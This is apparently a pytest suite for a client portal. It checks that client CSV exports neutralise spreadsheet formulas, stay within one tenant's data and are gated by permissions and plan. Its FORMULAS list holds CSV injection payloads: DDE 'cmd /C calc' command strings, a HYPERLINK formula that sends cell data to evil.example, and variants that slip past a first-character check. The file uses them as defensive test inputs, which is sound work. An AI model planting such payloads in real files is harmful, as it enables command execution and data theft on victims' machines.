"""The list as a file is a way out of the house, and a way in: formulas, plans, other businesses, other people."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from attrs import evolve

from clientportal import Permission, Reason, presets
from clientportal.outcomes import RowOutcome
from clientportal.policy import FieldDefinition
from clientportal.records import AuditEntry
from clientportal.values import ClientRecord
from security.attacking import ANA, Neighbour
from watching import everything_stored, reason_of
from world import World, client

FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=1+1",
    ";=1+1",
    '","=1+1',
    "\n=1+1",
)
"""What spreadsheet programs have been made to run, and ways round a check of the first sign."""


def cells(text: str, delimiter: str = ",") -> list[list[str]]:
    """The file as a program reads it that splits where it should."""
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_of_the_list_is_a_formula_and_none_is_lost(world: World, delimiter: str) -> None:
    """A client calls herself a formula: whoever opens the list runs nothing, and read again, it is as she typed it."""
    world.change_policy("clients", fields={"custom.=x": FieldDefinition(label="=1+1")})
    for n, formula in enumerate(FORMULAS):
        record = ClientRecord(client(f"c{n:02}"), world.clock(), last_name=formula, mobile=f"+64 21 123 4{n:03}")
        world.seed("add_clients", [evolve(record, notes=formula, custom={"=x": formula})])
    world.portal.walk_contacts(world.tenant)
    text = "".join(world.staff().export_clients(delimiter=delimiter))
    rows = cells(text, delimiter)
    assert len(rows) == len(FORMULAS) + 1
    for row in rows:
        for cell in row:
            assert not cell.lstrip("\t\r\n ").startswith(("=", "+", "-", "@", "＝")), cell
    before = world.ask("client_list", None, None, 100).items
    found = list(world.staff().import_clients([text], name="back", delimiter=delimiter))
    assert {row.outcome for row in found} == {RowOutcome.MATCHED}
    assert world.ask("client_list", None, None, 100).items == before
    fresh = Neighbour(world)
    fresh.change_policy("clients", fields={"custom.=x": FieldDefinition(label="=1+1")})
    without = {"number": None}
    list(fresh.staff().import_clients([text], name="moved", delimiter=delimiter, mapping=without))
    moved = {
        (one.last_name, one.notes, one.custom.get("=x")) for one in fresh.ask("client_list", None, None, 100).items
    }
    assert moved == {(formula.strip(), formula.strip(), formula.strip()) for formula in FORMULAS}


def test_an_export_holds_this_business_alone(world: World) -> None:
    """The neighbour's clients, on the same tables, are in no line of it, and their numbers are their own."""
    other = Neighbour(world)
    other.add_client("cleo", "Cleo Patra", mobile="021 765 4321")
    world.add_client("ana", "Ana Kingi", mobile=ANA)
    text = "".join(world.staff().export_clients())
    assert "Ana" in text
    assert "Cleo" not in text
    assert "".join(other.staff().export_clients()).splitlines()[1].startswith("1,Cleo")


def test_an_import_reaches_no_neighbour(world: World) -> None:
    """Same name, same number, next door: not a match; and nothing of theirs is touched."""
    other = Neighbour(world)
    other.add_client("ana", "Ana Kingi", mobile=ANA)
    before = everything_stored(other)
    (row,) = world.staff().import_clients(["first_name,last_name,mobile", f"Ana,Kingi,{ANA}"], name="spring")
    assert row.outcome is RowOutcome.ADDED
    assert everything_stored(other) == before


@pytest.mark.parametrize("lacking", [Permission.EXPORT_CLIENTS, Permission.EXPORT_PERSON, Permission.IMPORT_CLIENTS])
def test_each_way_out_or_in_has_a_permission_of_its_own(world: World, lacking: Permission) -> None:
    """All others together do not open it, and the attempt is in the audit."""
    ana = world.add_client("ana", "Ana Kingi", mobile=ANA)
    staff = world.staff(frozenset(Permission) - {lacking})
    ways = {
        Permission.EXPORT_CLIENTS: lambda: list(staff.export_clients()),
        Permission.EXPORT_PERSON: lambda: staff.export_person(ana),
        Permission.IMPORT_CLIENTS: lambda: list(staff.import_clients(["first_name", "Ana"], name="x")),
    }
    assert reason_of(ways[lacking]) is Reason.PERMISSION
    assert [one.outcome for one in world.all_stored(AuditEntry, "time") if one.action == lacking.value] == [
        "permission"
    ]
    for other, way in ways.items():
        if other is not lacking:
            way()


def test_a_plan_without_export_is_no_matter_of_permission(world: World) -> None:
    """The owner is refused, too, before the first line is read (TT6)."""
    world.add_client("ana", "Ana Kingi", mobile=ANA)
    world.use(presets.timely(region="NZ"))
    world.change_policy("clients", export=False)
    assert reason_of(lambda: next(world.staff().export_clients())) is Reason.PLAN


def test_what_is_handed_out_about_one_client_holds_nobody_else(world: World) -> None:
    """Ana's file says nothing of Ben, with whom she was confused and who has her old number now."""
    ana = world.add_client("ana", "Ana Kingi", mobile=ANA, email="ana@example.com")
    ben = world.add_client("ben", "Ben Ngata", mobile="021 765 4321", email="ben@example.com")
    world.book("b1", ben, "2026-12-01 09:00", booked_as="Ben Ngata")
    staff = world.staff()
    (merge,) = staff.merge(ana, ben).merges
    staff.undo(merge)
    staff.dismiss(ana, ben)
    world.log_in("021 765 4321").cancel("b1")
    world.clock.advance(timedelta(minutes=11))
    text = staff.export_person(ana).to_json()
    for word in ("Ngata", "ben@example.com", "765 4321", "217654321", '"b1"'):
        assert word not in text, word
    assert staff.export_person(client("ben")).held["appointments"] != []
